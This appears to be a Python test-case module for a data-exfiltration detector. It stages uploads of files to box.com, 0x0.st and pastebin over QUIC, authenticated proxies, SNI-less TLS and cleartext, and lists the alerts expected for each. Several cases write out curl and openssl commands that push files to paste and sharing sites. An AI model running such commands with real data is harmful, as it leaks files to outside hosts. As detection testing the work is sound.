"""The cases of names under other conditions: QUIC, proxies, DNS, cleartext, certificates, odd cuts."""

import base64
import hashlib
import subprocess
import sys
from pathlib import Path

from . import names, servers
from .cases import MB, case, chromium, hex_file, put
from .recording import HOME

BOX = "upload.box.com"
PROXY = HOME["px"]


# QUIC


@case("quic-upload", "Python niquests (qh3) puts 5 MB to upload.box.com over HTTP/3; hypercorn (aioquic) answers.",
      "One alert: 10.20.0.11 sent about 5 MB to box, name from the QUIC hello (`quic-sni`).",
      ("niquests", "hypercorn"), (("box", HOME["c1"]),))
def quic_upload(r):
    servers.start_quic(r.net, BOX)
    code = ("import niquests, sys\ns = niquests.Session()\n"
            f"s.quic_cache_layer.add_domain('{BOX}', 443)\n"
            f"a = s.put('https://{BOX}/files/secret.zip', data=open(sys.argv[1], 'rb').read(), verify=sys.argv[2])\n"
            "assert a.http_version == 30 and a.status_code == 200, (a.http_version, a.status_code)")
    with r.tap():
        r.program("c1", sys.executable, "-c", code, r.file(5 * MB), r.work / "ca.crt")
    r.flow(BOX, HOME["c1"], 443, 5 * MB, 0, "niquests", proto="udp", sni=BOX)


@case("chromium-quic", "Headless Chromium, made to use QUIC, opens a page of upload.box.com whose script uploads 5 MB. Its "
      "hello is shuffled over two or more Initials.",
      "One alert: 10.20.0.11 sent about 5 MB to box, name from the QUIC hello.",
      ("chromium", "hypercorn"), (("box", HOME["c1"]),))
def chromium_quic(r):
    servers.start_quic(r.net, BOX)
    with r.tap():
        chromium(r, BOX, 5 * MB, f"--origin-to-force-quic-on={BOX}:443",
                 f"--ignore-certificate-errors-spki-list={key_hash(r)}")
    r.flow(BOX, HOME["c1"], 443, 5 * MB, 0, "chromium", proto="udp", sni=BOX)


@case("quic-rebound", "aioquic puts 4 MB to upload.box.com over HTTP/3. After 2 MB its port changes, as when a translator of "
      "addresses has forgotten it; the connection goes on under the same id, in a flow without a hello.",
      "One alert: 10.20.0.11 sent about 4 MB to box over two flows of about 2 MB. The second one has the name of the "
      "first (`quic-sni`) and the sign `inferred`.",
      ("aioquic", "hypercorn"), (("box", HOME["c1"]),))
def quic_rebound(r):
    servers.start_quic(r.net, BOX)
    script = Path(__file__).with_name("rebound.py")
    with r.tap():
        told = r.program("c1", sys.executable, script, BOX, r.file(4 * MB), r.work / "ca.crt", stdout=subprocess.PIPE)
    for port, sni in zip(map(int, told.stdout.split()), (BOX, None)):
        r.flow(BOX, HOME["c1"], 443, 2 * MB, 0, "aioquic", proto="udp", client_port=port, sni=sni)


def key_hash(r):
    openssl = ["openssl", "pkey", "-in", r.work / f"{BOX}.key", "-pubout", "-outform", "der"]
    der = subprocess.run(openssl, check=True, stdout=subprocess.PIPE).stdout
    return base64.b64encode(hashlib.sha256(der).digest()).decode()


# Proxies


def tinyproxy(r):
    file = r.work / "tinyproxy.conf"
    file.write_text("Port 3128\nListen 10.20.0.5\nTimeout 60\nAllow 10.20.0.0/24\nMaxClients 20\n"
                    "BasicAuth ws11 s3cret\nLogLevel Error\n")
    r.net.spawn("px", "tinyproxy", "-d", "-c", file)
    r.net.wait_for("px", 3128)


def through_proxy(r, name, port, sni=None):
    """The truth of a proxied upload: the client's leg, named by its target."""
    told = r.programs[-1]
    r.flow(name, HOME["c1"], port, told["upload_bytes"], told["download_bytes"], "curl", server=PROXY, sni=sni)


@case("connect-proxy", "curl puts 5 MB to upload.box.com through tinyproxy at 10.20.0.5:3128 (CONNECT with credentials), seen "
      "between client and proxy.",
      "One alert: 10.20.0.11 sent about 5 MB to box, name from CONNECT, the proxy kept beside it; "
      "both ends are at home and yet it counts.", ("curl", "tinyproxy"), (("box", HOME["c1"]),))
def connect_proxy(r):
    tinyproxy(r)
    with r.tap("p-c1"):
        put(r, "c1", BOX, 5 * MB, "-x", f"http://ws11:s3cret@{PROXY}:3128")
    r.ask_web = False
    through_proxy(r, BOX, 3128, BOX)


@case("connect-proxy-both-legs", "As connect-proxy, seen at the proxy: the client's leg and the proxy's own leg to 203.0.113.20.",
      "An alert for 10.20.0.11 (box, about 5 MB, by CONNECT). The proxy's own leg is booked to 10.20.0.5, never added "
      "to the client: an alert of its own unless `gateways` holds 10.20.0.5.", ("curl", "tinyproxy", "nginx"),
      (("box", HOME["c1"]), ("box", PROXY)))
def connect_proxy_both_legs(r):
    tinyproxy(r)
    with r.tap("p-px"):
        put(r, "c1", BOX, 5 * MB, "-x", f"http://ws11:s3cret@{PROXY}:3128")
    through_proxy(r, BOX, 3128, BOX)


@case("proxy-absolute-form", "curl posts 5 MB to http://0x0.st through tinyproxy, in cleartext with the whole URL in the request "
      "line.", "One alert: 10.20.0.11 sent about 5 MB to 0x0, name from the request line.",
      ("curl", "tinyproxy"), (("0x0", HOME["c1"]),))
def proxy_absolute_form(r):
    tinyproxy(r)
    with r.tap("p-c1"):
        r.curl("c1", "-x", f"http://ws11:s3cret@{PROXY}:3128", "-F", f"file=@{r.file(5 * MB)}", "http://0x0.st/")
    r.ask_web = False
    through_proxy(r, "0x0.st", 3128)


@case("socks-proxy", "curl puts 5 MB to upload.box.com through microsocks at 10.20.0.5:1080 (SOCKS5 with name and password, the "
      "target by name), seen between client and proxy.",
      "One alert: 10.20.0.11 sent about 5 MB to box, name from SOCKS.", ("curl", "microsocks"),
      (("box", HOME["c1"]),))
def socks_proxy(r):
    r.net.spawn("px", "microsocks", "-i", PROXY, "-p", "1080", "-u", "ws11", "-P", "s3cret")
    r.net.wait_for("px", 1080)
    with r.tap("p-c1"):
        put(r, "c1", BOX, 5 * MB, "-x", f"socks5h://ws11:s3cret@{PROXY}:1080")
    r.ask_web = False
    through_proxy(r, BOX, 1080, BOX)


# No name in the hello


@case("dns-then-no-sni", "openssl s_client resolves upload.box.com by DNS and sends a 5 MB PUT over TLS 1.3 without SNI.",
      "One alert: 10.20.0.11 sent about 5 MB to box, name from the client's DNS (`dns`), with lower confidence.",
      ("openssl", "dnsmasq", "nginx"), (("box", HOME["c1"]),), dns=True)
def dns_then_no_sni(r):
    r.net.wait_for("gw", 53, udp=True)
    with r.tap():
        tls_request(r, "-noservername")


def tls_request(r, *options):
    """5 MB from 10.20.0.11 to upload.box.com, which openssl itself looks up."""
    head = f"PUT /files/secret.zip HTTP/1.1\r\nHost: {BOX}\r\nContent-Length: {5 * MB}\r\nConnection: close\r\n\r\n"
    request = r.work / "request"
    request.write_bytes(head.encode() + r.file(5 * MB).read_bytes())
    with open(request, "rb") as stdin:
        r.program("c1", "openssl", "s_client", "-quiet", *options, "-connect", f"{BOX}:443",
                  stdin=stdin, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    r.note("openssl", request_bytes=request.stat().st_size)


@case("tls12-certificate", "curl puts 5 MB to https://203.0.113.20/ (no DNS, no SNI) over TLS 1.2; the server's certificate is "
      "for upload.box.com.", "One alert: 10.20.0.11 sent about 5 MB to box, name from the certificate.",
      alerts=(("box", HOME["c1"]),))
def tls12_certificate(r):
    with r.tap():
        r.curl("c1", "-k", "--tls-max", "1.2", "-T", r.file(5 * MB), f"https://{names.address(BOX)}/files/secret.zip")


@case("http-host", "curl posts 5 MB as a form to http://0x0.st, in cleartext.",
      "One alert: 10.20.0.11 sent about 5 MB to 0x0, name from the Host header.", alerts=(("0x0", HOME["c1"]),))
def http_host(r):
    with r.tap():
        r.curl("c1", "-F", f"file=@{r.file(5 * MB)}", "http://0x0.st/")


# Odd cuts and formats


@case("tiny-segments", "curl posts 60 kB to pastebin.com over a line whose segments hold 120 bytes at most: the hello takes five "
      "or more.", "One alert: 10.20.0.11 sent about 60 kB to pastebin, name from a hello over many segments.",
      alerts=(("pastebin", HOME["c1"]),))
def tiny_segments(r):
    r.net.ip("srv", "route", "change", "default", "via", "192.0.2.1", "advmss", "120")
    with r.tap():
        r.curl("c1", "-F", f"api_paste_code=<{hex_file(r, 30_000)}", "https://pastebin.com/api/api_post.php")


@case("pcapng-two-interfaces", "As dumpcap writes it: pcapng with two interfaces (the switch's ports of 10.20.0.11 and 10.20.0.12). Each "
      "host posts 60 kB to pastebin.com. Nothing is cut; the words on our machine are blotted out.",
      "Two alerts: 10.20.0.11 and 10.20.0.12 each sent about 60 kB to pastebin.", ("dumpcap", "curl", "nginx"),
      (("pastebin", HOME["c1"]), ("pastebin", HOME["c2"])), file="traffic.pcapng")
def pcapng_two_interfaces(r):
    with r.dumpcap("p-c1", "p-c2"):
        for client in ("c1", "c2"):
            r.curl(client, "-F", f"api_paste_code=<{hex_file(r, 30_000)}", "https://pastebin.com/api/api_post.php")
